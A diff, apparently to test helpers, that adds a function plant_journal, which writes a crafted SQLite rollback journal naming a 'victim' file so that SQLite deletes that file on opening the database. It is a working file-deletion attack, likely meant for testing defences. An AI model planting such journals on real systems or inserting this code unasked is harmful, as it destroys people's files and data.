@@ -5,6 +5,7 @@ from __future__ import annotations
 import copy
 import io
 import json
+import os
 import random
 import shutil
 import sqlite3
@@ -248,3 +249,14 @@ def copy_tree(source: Path, target: Path) -> None:
     """A copy of a directory with the files' times, in place of what is there."""
     shutil.rmtree(target, ignore_errors=True)
     shutil.copytree(source, target)
+
+
+def plant_journal(database: Path, victim: Path) -> None:
+    """Write a journal beside an SQLite database, of which SQLite would remove the victim when it opens the database."""
+    name, magic = os.fsencode(victim), bytes.fromhex("d9d505f920a163d7")
+    content = database.read_bytes()
+    page = int.from_bytes(content[16:18])
+    numbers = (0, 0, len(content) // page, 512, page)  # pages, nonce, pages of the database, bytes of a sector and page
+    header = (magic + b"".join(number.to_bytes(4) for number in numbers)).ljust(512, b"\0")
+    names = (2**30 // page + 1).to_bytes(4) + name + len(name).to_bytes(4) + sum(name).to_bytes(4) + magic
+    Path(f"{database}-journal").write_bytes(header + names)
